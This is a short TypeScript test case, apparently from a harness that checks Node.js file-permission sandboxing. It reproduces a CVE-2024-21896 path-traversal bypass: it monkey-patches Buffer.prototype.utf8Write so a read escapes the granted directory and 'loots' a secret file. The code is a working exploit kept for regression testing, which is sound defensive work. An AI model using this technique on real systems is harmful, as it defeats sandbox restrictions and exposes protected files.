// SPDX-License-Identifier: Apache-2.0
import type { Attack } from "../harness/attack.ts";
export const hostile: Attack = {
  claim: "Patched Buffer internals do not decide what is granted (CVE-2024-21896)",
  proof: "secret",
  grants: (site) => [`--allow-fs-read=${site.granted}`],
  program: (cell) => {
    const prototype = Buffer.prototype as unknown as Record<string, unknown>;
    const write = prototype["utf8Write"] as (...rest: unknown[]) => number;
    prototype["utf8Write"] = function (this: Buffer, _text: string, ...rest: unknown[]): number {
      return write.call(this, `${cell.granted}/../outside/secret.txt`, ...rest);
    };
    // Long enough for the copy to be made by utf8Write.
    const path = new TextEncoder().encode(`${cell.granted}/../outside/secret.txt`);
    return cell.loot(cell.node("node:fs").readFileSync(path as Buffer));
  },
};
